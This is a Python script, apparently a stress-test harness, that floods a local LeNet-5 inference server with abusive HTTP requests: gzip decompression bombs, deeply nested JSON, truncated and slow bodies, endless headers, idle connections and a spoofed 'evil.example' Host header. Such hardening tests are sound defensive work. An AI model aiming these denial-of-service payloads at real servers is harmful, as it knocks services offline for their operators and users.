"""Attackers of a server of LeNet-5: ``python attackers.py KIND PORT``, 20 requests a second.

Only Python's own library is imported, so that attackers start soon and take little time.
"""

import contextlib
import gzip
import json
import socket
import sys
import threading
import time

PATH = "/v2/models/lenet5/infer"
RATE = 20.0
HELD = 10.0  # seconds for which an attacker holds a connection, unless the server ends it


def body(rows, numbers):
    entry = {"name": "input", "datatype": "FP32", "shape": [rows, 1, 28, 28], "data": []}
    return json.dumps({"inputs": [entry]}).encode().replace(b"[]", b"[" + numbers + b"]")


def post(content, *headers, length=None):
    lines = [f"POST {PATH} HTTP/1.1", *(headers or ["Host: 127.0.0.1"])]
    lines += [f"Content-Length: {len(content) if length is None else length}", "", ""]
    return "\r\n".join(lines).encode() + content


def packed(content):
    return post(gzip.compress(content, 9), "Host: 127.0.0.1", "Content-Encoding: gzip")


ONE = ",".join(["0.123456789"] * 784).encode()
WRONG = b",".join([ONE] * 63 + [ONE[:-1] + b"x"])
FOREIGN = "Host: evil.example", "Content-Type: text/plain"
#: What is sent, and what is sent again and again after it.
KINDS = {
    "lists, 200 KB packed": (lambda: packed(body(1, b"[]," * 2**26)), b""),
    "objects, 2 KB packed": (lambda: packed(b'{"inputs": [' + b'{"a":[{}]},' * 150_000), b""),
    "zeros, 3 KB packed": (lambda: packed(body(1, b"0," * 1_000_000)), b""),
    "1 MB of numbers, one wrong": (lambda: post(body(64, WRONG)), b""),
    "1.5 MB of lists": (lambda: post(body(64, b",".join([b"[]"] * 500_000))), b""),
    "no body": (lambda: post(b"", length=1000), b""),
    "half a body": (lambda: post(bytes(10**6), length=10**6 + 1), b""),
    "a slow body": (lambda: post(b"{", length=10**6), b" " * 100),
    "headers without end": (lambda: b"GET / HTTP/1.1\r\n", b"a: b\r\n" * 10_000),
    "idle": (lambda: b"", b""),
    "a foreign page": (lambda: post(body(1, ONE), *FOREIGN), b""),
    "malformed": (lambda: post(body(1, b"null")), b""),
}  # fmt: skip


def attack(port, first, more):
    """Send what is wrong, and wait for the end of the connection."""
    until = time.monotonic() + HELD
    with (
        contextlib.suppress(OSError),
        socket.create_connection(("127.0.0.1", port), timeout=HELD) as connection,
    ):
        connection.sendall(first)
        while more and time.monotonic() < until:
            connection.sendall(more)
            time.sleep(0 if len(more) > 1000 else 0.05)
        while time.monotonic() < until and connection.recv(65536):
            if first[:4] == b"POST" and not more:
                break  # it is answered


def main(kind, port):
    make, more = KINDS[kind]
    first = make()
    print("ready", flush=True)
    start = time.monotonic()
    for i in range(100_000):
        time.sleep(max(0.0, start + i / RATE - time.monotonic()))
        threading.Thread(target=attack, args=(port, first, more), daemon=True).start()


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
